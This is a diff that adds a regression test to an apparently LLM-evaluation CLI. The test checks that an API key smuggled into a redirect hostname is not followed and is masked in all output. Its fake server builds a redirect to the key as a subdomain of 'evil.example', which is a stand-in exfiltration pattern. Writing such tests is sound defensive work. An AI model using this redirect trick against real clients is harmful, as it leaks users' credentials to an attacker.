@@ -1139,3 +1139,27 @@ def test_redact_pii_masks_an_email_written_as_a_link_an_entity_or_a_json_escape(
         for name in ("jane.doe", "bob.roe", "ann.poe"):
             assert name not in text
     assert regression.redactor(pii=True)("jane\\u0040example.com") == "[REDACTED:email]"
+
+
+@pytest.mark.parametrize("provider", ["perplexity", "openai"])
+def test_a_key_in_a_redirect_host_is_masked_though_the_host_is_lower_cased(tmp_path, provider):
+    """The redirect note names Location's host, which urllib lower-cases: a mixed-case key
+    there was not the key's form the mask knew, so the perplexity row stored it."""
+    key = "Trust4WnP7sLx2VbT9mKc3DzzQ"  # no vendor prefix: only the key's own mask can catch it
+
+    def reply(request):
+        sent = request.headers["Authorization"].split(" ", 1)[1]
+        return Reply(302, {"x": 1}, headers={"Location": f"https://{sent}.evil.example/v1/chat/completions"})
+
+    with FakeServer(reply) as server:
+        if provider == "openai":
+            argv, env = ["--provider", "openai", "--base-url", server.url + "/v1", "--api-key-env", "MY_KEY",
+                         "--suite", GUARDRAILS], child_env(MY_KEY=key)
+        else:
+            argv, env = [], child_env(PERPLEXITY_API_KEY=key, PERPLEXITY_BASE_URL=server.url)
+        result = run_cli([*argv, "--models", "m", "--timeout", "5", "--out", tmp_path / "run.json"], env, tmp_path)
+    assert result.returncode == 2, result.stderr
+    stored = (tmp_path / "run.json").read_text(encoding="utf-8")
+    assert "redirect to [REDACTED:secret].evil.example not followed" in json.loads(stored)["runs"][0]["error_message"]
+    for text in (stored, result.stdout, result.stderr):
+        assert key.lower() not in text.lower()
